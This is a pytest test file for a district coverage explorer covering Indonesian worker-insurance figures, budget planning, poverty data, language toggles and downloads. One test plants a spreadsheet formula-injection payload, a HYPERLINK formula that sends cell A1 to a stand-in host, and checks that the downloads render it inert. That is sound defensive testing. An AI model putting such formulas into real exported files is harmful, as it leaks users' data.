"""The planners' explorer without a browser: the analysis functions it reads (against hand-worked
figures and sums done here with plain pandas) and the widget itself (labels, formats, downloads,
messages for bad data)."""

from __future__ import annotations

import base64
import io
import math
import re

import pandas as pd
import pytest

from ucj.analysis.district import district_figures
from ucj.analysis.explore import (MAX_COMPARE, allowed_segments, budget_plan, compare_table, coverage_against,
                                  latest_segment_coverage, poverty_target)
from ucj.core.errors import UcjInputError

MINAHASA, BOALEMO, BANGGAI, MUNA_BARAT = "71.02", "75.02", "72.01", "74.13"
BOLMONG = "71.01"  # Bolaang Mongondow: the national default target
slow = pytest.mark.slow  # each district's figures take seconds: kept out of `make test-fast`


@pytest.fixture(scope="module")
def minahasa(demo_ds):
    return district_figures(demo_ds, MINAHASA, denominator="working_population")


@pytest.fixture(scope="module")
def judged(demo_ds):
    """A district judged over the working population: the national default target, which has no recorded basis
    (Minahasa's own target is over its potensi list: not judged over the working population, docs/basisn.md)."""
    return district_figures(demo_ds, BOLMONG, denominator="working_population")


def _coverage_by_hand(ds, codes: list[str], month: pd.Timestamp) -> float:
    """Active participants of `codes` in `month` over their working population of that year (plain pandas)."""
    e = ds.enrolment
    active = e.loc[e["district_code"].isin(codes) & (e["month"] == month), "active"].sum()
    w = ds.workforce
    denom = w.loc[w["district_code"].isin(codes) & (w["year"] == month.year), "working_population"].sum()
    return 100 * float(active) / float(denom)


def test_segments_offered_follow_the_pairings():
    assert allowed_segments("employees") == ["all", "PU"]
    assert allowed_segments("informal_workers") == ["all", "BPU"]
    assert allowed_segments("working_population") == ["all", "PU", "BPU", "Jakon", "PMI"]


@slow
def test_coverage_against_province_and_peers_are_ratios_of_sums(demo_ds, minahasa):
    series = coverage_against(demo_ds, minahasa)
    month = minahasa.last_period
    at = series[series["month"] == month].set_index("series")["coverage_pct"]
    assert at["district"] == pytest.approx(_coverage_by_hand(demo_ds, [MINAHASA], month))
    province = [c for c in demo_ds.registry.districts["code"] if c.startswith("71.")]
    assert at["province"] == pytest.approx(_coverage_by_hand(demo_ds, province, month))
    assert at["peers"] == pytest.approx(_coverage_by_hand(demo_ds, minahasa.peer_codes, month))
    with pytest.raises(UcjInputError):
        coverage_against(demo_ds, district_figures(demo_ds, MINAHASA, denominator="employees"), "BPU")


@slow
def test_one_segment_headline_is_that_segments_participants(demo_ds, minahasa):
    pct, month = latest_segment_coverage(minahasa, "BPU")
    e = demo_ds.enrolment
    bpu = e.loc[(e["district_code"] == MINAHASA) & (e["month"] == month) & (e["segment"] == "BPU"), "active"].sum()
    w = demo_ds.workforce
    denom = w.loc[(w["district_code"] == MINAHASA) & (w["year"] == month.year), "working_population"].iloc[0]
    assert pct == pytest.approx(100 * bpu / denom)


@slow
def test_compare_table_rows_match_sums_by_hand(demo_ds):
    codes = [MINAHASA, BOALEMO, BANGGAI]
    table = compare_table(demo_ds, codes)
    assert list(table["district_code"]) == codes
    month = pd.Timestamp(demo_ds.enrolment["month"].max())
    for row in table.itertuples():
        assert row.coverage_pct == pytest.approx(_coverage_by_hand(demo_ds, [row.district_code], month))
        p = demo_ds.poverty
        p = p[(p["district_code"] == row.district_code)].dropna(subset=["p0"])
        assert row.p0 == p.loc[p["year"].idxmax(), "p0"] and row.p0_year == p["year"].max()
    with pytest.raises(UcjInputError, match="at most 5"):
        compare_table(demo_ds, codes + [MUNA_BARAT, "71.01", "71.03"])
    assert MAX_COMPARE == 5


@slow
def test_budget_plan_against_hand_worked_figures(judged, demo_ds):
    plan = budget_plan(judged, 5_000, 12, 16_800, judged.projection.target_year)
    sc = plan.scenario
    assert sc["cost_rp"] == 1_008_000_000  # 5,000 workers x 12 months x Rp 16,800
    # national rates: JKK 177,727 claims / 41.56 m = 4.28 per 1,000 a year at Rp 4 m; JKM 69,029 / 41.56 m = 1.66 per
    # 1,000 at Rp 42 m
    assert plan.expected_jkk_claims_rp == pytest.approx(5_000 * 4.28 / 1000 * 4_000_000)  # Rp 85.6 m
    assert plan.expected_jkm_claims_rp == pytest.approx(5_000 * 1.66 / 1000 * 42_000_000)  # Rp 348.6 m
    assert sc["coverage_after_pct"] == pytest.approx(100 * (judged.active + 5_000) / judged.denominator_value)
    # reaching the target: the target share of the denominator grown yearly, less today's participants
    p = judged.projection
    last = judged.coverage_as_of
    years = p.target_year - last.year
    months = (p.target_year - last.year) * 12 + 12 - last.month
    need = p.target_pct / 100 * judged.denominator_value * (1 + p.denominator_growth_pct_per_year / 100) ** years \
        - judged.active
    assert plan.workers_needed_total == pytest.approx(need)
    assert plan.net_per_month == pytest.approx(need / months)
    assert plan.gross_per_month == pytest.approx(need / months + judged.lapsed_per_month)
    # the cost a year pays the funded additional workers of the page's budget rule (second reading N5): the rise of
    # all participants less the change of the self-enrolled ones, today's from the demo rows (pandas), December of
    # the target year's from the projection's central organic path
    e = demo_ds.enrolment[(demo_ds.enrolment["district_code"] == BOLMONG)
                          & (demo_ds.enrolment["month"] == judged.coverage_as_of)]
    organic_now = float(e.loc[e["funding"] == "self_employer", "active"].sum())
    fc = p.forecast.set_index("month")
    den_end = judged.denominator_value * (1 + p.denominator_growth_pct_per_year / 100) ** years
    organic_end = fc.loc[pd.Timestamp(p.target_year, 12, 1), "organic_mean"] / 100 * den_end
    assert plan.organic_basis == "organic_projected" and e["active"].sum() == judged.active
    assert plan.funded_additional_total == pytest.approx(need - (organic_end - organic_now))
    assert plan.cost_per_year_rp == pytest.approx((need - (organic_end - organic_now)) * 16_800 * 12)
    later = budget_plan(judged, 5_000, 12, 16_800, p.target_year + 2)
    assert later.net_per_month < plan.net_per_month  # more time, fewer workers a month


@slow
def test_budget_over_employees_does_not_count_bpu_workers(demo_ds):
    fig = district_figures(demo_ds, MINAHASA, denominator="employees")
    plan = budget_plan(fig, 5_000, 12, 16_800, 2029)
    assert not plan.counts_towards_coverage
    assert plan.scenario["coverage_after_pct"] == pytest.approx(plan.scenario["coverage_before_pct"])
    assert math.isnan(plan.cost_per_year_rp)


@slow
def test_poverty_change_since_2021_from_the_poverty_table(demo_ds, minahasa):
    from ucj.analysis.explore import poverty_change

    p = demo_ds.poverty
    p = p[(p["district_code"] == MINAHASA) & (p["year"] >= 2021)].dropna(subset=["p0"]).set_index("year")["p0"]
    since, delta = poverty_change(minahasa)
    assert since == 2021 and delta == pytest.approx(p[p.index.max()] - p[2021])


@slow
def test_poverty_target_is_the_published_one(demo_ds):
    assert poverty_target(district_figures(demo_ds, BOALEMO, denominator="working_population")) == 10.0  # seed 002: below 10 %
    assert math.isnan(poverty_target(district_figures(demo_ds, BANGGAI, denominator="working_population")))


# ------------------------------------------------------------------ the widget (no browser, no kernel)

@pytest.fixture(scope="module")
def explorer(demo_ds):
    from ucj.presentation.explore import Explorer

    e = Explorer(demo_ds, "en", MINAHASA)
    # Minahasa opens on its page's pairing, its potensi list (R16-8); these tests read it over the working population,
    # which every district has, as a planner who switches the denominator does
    e.denominator.value = "working_population"
    return e


def _rupiah_full(n: int, lang: str) -> str:
    """Thousands grouped by hand: 1008000000 -> Rp 1,008,000,000 (en) / Rp1.008.000.000 (id)."""
    digits = str(n)
    groups = [digits[max(i - 3, 0):i] for i in range(len(digits), 0, -3)][::-1]
    return "Rp " + ",".join(groups) if lang == "en" else "Rp" + ".".join(groups)


@slow
def test_budget_tab_reads_the_cost_in_the_pages_language(explorer):
    explorer.workers.value, explorer.months.value = 5_000, 12
    for lang, short in (("en", "Rp 1.01 bn"), ("id", "Rp1,01 M")):  # the report's rule: two decimals at most
        explorer.language.value = lang
        v = explorer.view("budget")
        assert _rupiah_full(1_008_000_000, lang) in v.lines[0] and short in v.lines[0]
    explorer.language.value = "en"


@slow
def test_language_toggle_switches_every_label(explorer):
    explorer.language.value = "id"
    assert explorer.tabs.titles == ("Cakupan", "Klaim", "Kemiskinan", "Perencana anggaran", "Bandingkan")
    assert explorer.district.description == "Kabupaten/kota"
    assert ("penduduk bekerja", "working_population") in explorer.denominator.options
    assert explorer.view("claims").table.columns[0] == "Program"
    explorer.language.value = "en"
    assert explorer.tabs.titles[3] == "Budget planner" and explorer.workers.description == "Additional workers"


def _downloads(links: str) -> dict[str, bytes]:
    """The files behind the two download links (their data: URIs), by extension."""
    found = re.findall(r'download="ucj_[\w-]+\.(\w+)" href="data:[^;]+;base64,([^"]+)"', links)
    return {ext: base64.b64decode(data) for ext, data in found}


def _sheet(data: bytes, name: str):  # type: ignore[no-untyped-def]
    from openpyxl import load_workbook

    return load_workbook(io.BytesIO(data))[name]


@slow
def test_coverage_headline_and_download_match_the_analysis(explorer, minahasa):
    """The indicator table shows each value by the report's rule with its unit ("17.8 %", never "17.82"),
    and the downloads hold the analysis layer's numbers: CSV as plain numbers, XLSX as numbers with the
    report's number formats (as tables.xlsx)."""
    from ucj.presentation.explore import download_links
    from ucj.presentation.i18n import XL_FORMATS, fmt_pct

    explorer.tabs.selected_index = 0
    v = explorer.view("coverage")
    assert f"Coverage of Kabupaten Minahasa: {minahasa.coverage_pct:.1f} % ({minahasa.coverage_as_of:%Y-%m}," \
        in v.lines[0]
    assert fmt_pct(minahasa.coverage_pct, "en") == f"{minahasa.coverage_pct:.1f} %"
    shown = v.table.set_index("Indicator")
    assert shown.loc["Coverage", "Value"] == f"{minahasa.coverage_pct:.1f} %"  # issue 21: no bare "17.82"
    assert shown.loc["Coverage", "Rank"] == str(int(minahasa.peers.set_index("indicator").loc["coverage_pct", "rank"]))
    files = _downloads(download_links(v.data, v.name, "en"))
    csv = pd.read_csv(io.BytesIO(files["csv"]))
    assert list(csv.columns) == list(v.table.columns)
    peers = minahasa.peers.reset_index(drop=True)
    assert csv["Value"].tolist() == pytest.approx(peers["value"].tolist())
    assert csv["Province"].tolist() == pytest.approx(peers["province"].tolist())
    ws = _sheet(files["xlsx"], "coverage")
    header = [c.value for c in ws[1]]
    assert header == list(v.table.columns)
    value = header.index("Value") + 1
    cov = ws.cell(2, value)
    assert cov.value == pytest.approx(minahasa.coverage_pct) and cov.number_format == XL_FORMATS["pct"]
    assert isinstance(ws.cell(2, header.index("Rank") + 1).value, int)


@slow
def test_budget_download_read_back_with_openpyxl_gives_the_analysis_numbers(explorer, judged):
    """Issue 21: the budget table's download holds numbers equal to the analysis layer's (budget_plan),
    each with its unit's number format; the CSV holds the same numbers."""
    from ucj.analysis.explore import budget_plan
    from ucj.presentation.explore import download_links
    from ucj.presentation.i18n import XL_FORMATS

    explorer.district.value = BOLMONG
    explorer.workers.value, explorer.months.value, explorer.tariff.value = 7_500, 18, 17_000
    year = explorer.target_year.value
    v = explorer.view("budget")
    plan = budget_plan(judged, 7_500, 18, 17_000, year)  # the analysis layer, called here directly
    expected = {"Additional workers": (7_500, "count"), "Months": (18, "count"),
                "APBD cost": (7_500 * 18 * 17_000, "rp"),  # Rp 2,295,000,000 by hand
                "Coverage after": (plan.scenario["coverage_after_pct"], "pct"),
                "Expected JKM claims": (plan.expected_jkm_claims_rp, "rp"),
                "Net additional workers a month": (plan.net_per_month, "count"),
                "Cost a year": (plan.cost_per_year_rp, "rp")}
    files = _downloads(download_links(v.data, v.name, "en", [["note", "x"]], True))
    ws = _sheet(files["xlsx"], "budget")
    rows = {ws.cell(r, 1).value: ws.cell(r, 2) for r in range(2, ws.max_row + 1)}
    csv = pd.read_csv(io.BytesIO(files["csv"])).set_index("Quantity")["Value"]
    for label, (number, kind) in expected.items():
        cell = rows[label]
        assert isinstance(cell.value, (int, float)) and cell.value == pytest.approx(number), label
        assert cell.number_format == XL_FORMATS[kind], label
        assert float(csv[label]) == pytest.approx(number), label
    assert rows["APBD cost"].value == 2_295_000_000 and isinstance(rows["APBD cost"].value, int)
    assert plan.scenario["cost_rp"] == 2_295_000_000
    explorer.workers.value, explorer.months.value, explorer.tariff.value = 5_000, 12, 16_800
    explorer.district.value = MINAHASA


@slow
def test_a_formula_from_a_data_source_is_text_in_both_downloads(demo_ds):
    """Issue 24.9: a poverty source column holding =HYPERLINK(...) downloads as text, never a formula: the
    XLSX cell is a string with Excel's quote prefix (the report's writer), the CSV cell starts with '."""
    from ucj.presentation.explore import download_links, poverty_view

    fig = district_figures(demo_ds, BOALEMO, denominator="working_population")
    evil = '=HYPERLINK("http://example.invalid/?leak="&A1,"BPS")'
    fig.poverty = fig.poverty.assign(source=evil)
    v = poverty_view(demo_ds, fig, "en")
    files = _downloads(download_links(v.data, v.name, "en"))
    ws = _sheet(files["xlsx"], "poverty")
    col = [c.value for c in ws[1]].index("Source") + 1
    cell = ws.cell(2, col)
    assert cell.value == evil and cell.data_type == "s" and cell.quotePrefix
    assert not any(c.data_type == "f" for row in ws.iter_rows() for c in row)
    csv = pd.read_csv(io.BytesIO(files["csv"]), dtype=str)
    assert set(csv["Source"]) == {"'" + evil}


@slow
def test_charts_carry_alt_text_and_the_stamp_sits_on_its_chart(demo_ds, minahasa):
    """Every chart has alt text naming what it shows, in the page's language; the synthetic stamp is drawn
    inside the chart's image, in its title row (above the axes, within the figure)."""
    from matplotlib.backends.backend_agg import FigureCanvasAgg

    from ucj.presentation.explore import (compare_view, coverage_chart, coverage_view, figure_html,
                                          poverty_view)
    from ucj.presentation.i18n import t

    for lang in ("id", "en"):
        views = [coverage_view(demo_ds, minahasa, "all", lang), poverty_view(demo_ds, minahasa, lang),
                 compare_view(demo_ds, [MINAHASA, BOALEMO], "working_population", lang)]
        for v in views:
            assert v.chart and len(v.alt) > 30
            assert f'alt="{v.alt}"' in figure_html(v.chart, v.alt).replace("&#x27;", "'")
        assert "Kabupaten Minahasa" in views[0].alt and "Kabupaten Boalemo" in views[2].alt
    fig = coverage_chart(coverage_against(demo_ds, minahasa), minahasa, "all", "en", True)
    FigureCanvasAgg(fig)
    fig.set_layout_engine("none")
    renderer = fig.canvas.get_renderer()
    stamp = [x for x in fig.axes[0].texts + [fig.axes[0]._right_title] if x.get_text() == t("synthetic_stamp", "en")]
    assert len(stamp) == 1
    box, frame, axes = stamp[0].get_window_extent(renderer), fig.bbox, fig.axes[0].get_window_extent(renderer)
    assert frame.x0 <= box.x0 and box.x1 <= frame.x1 and frame.y0 <= box.y0 and box.y1 <= frame.y1
    assert box.y0 >= axes.y1 - 1 and box.x1 <= axes.x1 + 1  # the title row, right-aligned over the axes


@slow
def test_compare_tab_gains_rows_up_to_five(explorer):
    explorer.compare_codes = [MINAHASA]
    for code in (BOALEMO, BANGGAI, MUNA_BARAT, "71.01", "71.03", "71.04"):
        explorer.compare_pick.value = code
        explorer.add.click()
    assert len(explorer.view("compare").table) == 5
    explorer.clear.click()
    assert explorer.compare_codes == [MINAHASA]


@slow
def test_a_district_without_the_figures_gets_a_sentence(explorer):
    explorer.tabs.selected_index = 0
    explorer.district.value = BOALEMO
    explorer.denominator.value = "potensi_pekerja"  # only Minahasa has a potensi pekerja list
    assert "Kabupaten Boalemo cannot be shown yet" in explorer.message.value
    assert "no coverage figure" in explorer.message.value and "Traceback" not in explorer.message.value
    explorer.denominator.value = "working_population"
    assert explorer.message.value == ""
    explorer.district.value = MINAHASA


@slow
def test_a_data_folder_without_tables_gets_a_sentence(tmp_path):
    from ucj.presentation.explore import explorer_app

    page = explorer_app(str(tmp_path), "en")
    assert "The data cannot be read" in page.value and "make demo" in page.value
    assert "Traceback" not in page.value


def test_ucj_explore_refuses_an_unknown_language_before_serving():
    import subprocess
    import sys

    run = subprocess.run([sys.executable, "-m", "ucj.cli", "explore", "--lang", "fr"], capture_output=True,
                         text=True, timeout=60)
    assert run.returncode == 2 and "unknown lang 'fr'" in run.stderr and "Traceback" not in run.stderr + run.stdout
    assert "http://" not in run.stdout  # nothing was served
